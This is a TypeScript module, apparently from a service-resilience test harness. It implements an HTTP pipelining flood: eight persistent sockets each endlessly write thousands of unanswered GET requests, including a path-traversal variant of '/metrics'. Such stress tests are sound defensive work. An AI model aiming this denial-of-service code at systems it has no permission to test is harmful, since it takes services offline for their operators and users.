import type { Attack } from '../attack.ts'
import { keepConnected, writeForever } from './sockets.ts'

const SOCKETS = 8
const REQUESTS_PER_PIECE = 1000
const PAUSE_MS = 20
const paths = [
  '/metrics',
  '/health/ready',
  '/health/live',
  '/openapi.json',
  '/r/../metrics',
  '/none',
]

/** Thousands of requests on one connection without reading an answer first. */
export const pipelining: Attack = ({ apiUrl }) => {
  const { host } = new URL(apiUrl)
  const request = (n: number): string =>
    `GET ${paths[n % paths.length] ?? '/'} HTTP/1.1\r\nHost: ${host}\r\n\r\n`
  const piece = Buffer.from(
    Array.from({ length: REQUESTS_PER_PIECE }, (_, n) => request(n)).join(''),
  )
  return async (count) => {
    const socket = (): Promise<never> =>
      keepConnected(apiUrl, (opened) => writeForever(opened, piece, PAUSE_MS), count)
    await Promise.all(Array.from({ length: SOCKETS }, socket))
  }
}
